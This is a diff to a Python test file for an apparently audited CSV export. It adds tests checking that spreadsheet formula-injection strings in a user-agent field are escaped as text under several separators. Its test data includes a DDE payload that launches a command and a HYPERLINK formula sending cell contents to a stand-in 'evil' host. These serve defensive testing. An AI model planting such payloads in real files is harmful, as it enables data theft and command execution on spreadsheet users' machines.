@@ -4,6 +4,7 @@ import ast
 import csv
 import io
 import json
+import re
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -62,9 +63,6 @@ def test_a_row_has_what_the_record_has(audited: RouterBench) -> None:
         "+1+cmd|' /C calc'!A0",
         "-2+3",
         "@SUM(1+1)",
-        "\t=1+1",
-        "\r=1+1",
-        "\n=1+1",
         "  =1+1",
         "＝1+1",  # noqa: RUF001 - a wide sign, which spreadsheets take for the narrow one
     ],
@@ -75,6 +73,26 @@ def test_what_a_spreadsheet_would_calculate_is_text(audited: RouterBench, text: 
     assert rows[0]["userAgent"] == f"'{text}"
 
 
+def test_what_a_spreadsheet_with_other_separators_would_calculate_is_text(audited: RouterBench) -> None:
+    """One that goes by semicolons or tabs begins a cell where this file does not."""
+    guarded = {
+        'bench/1.0;=HYPERLINK("http://evil/?"&A1,"x")': """bench/1.0;'=HYPERLINK("http://evil/?"&A1,"x")""",
+        "a\t=1+1": "a\t'=1+1",
+        "a, +1": "a,' +1",
+        '"=1+1': """"'=1+1""",
+        "\t=1+1": "'\t'=1+1",
+        "\r=1+1": "'\r'=1+1",
+        "\n=1+1": "'\n'=1+1",
+        "a;\n@x": "a;\n'@x",
+    }
+    known = put(audited, [record(at, MORNING, userAgent=text) for at, text in enumerate(guarded)])
+    answer, rows = export(audited, **DAY)
+    assert [row["userAgent"] for row in rows] == [guarded[each["userAgent"]] for each in known]
+    for separator in ";\t":
+        cells = re.split(f"[{separator}\r\n]", answer.text)
+        assert [cell for cell in cells if cell.lstrip(' "').startswith(("=", "+", "-", "@"))] == []
+
+
 @pytest.mark.parametrize(
     "text",
     [
@@ -83,6 +101,7 @@ def test_what_a_spreadsheet_would_calculate_is_text(audited: RouterBench, text: 
         "two\r\nlines",
         "a carriage\rreturn",
         "comma, semicolon; tab\there",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101, like-this; a=b",
         "grün 漢字 \U0001f600 \u202e right to left",
         "a=b-c",
         "'quoted'",
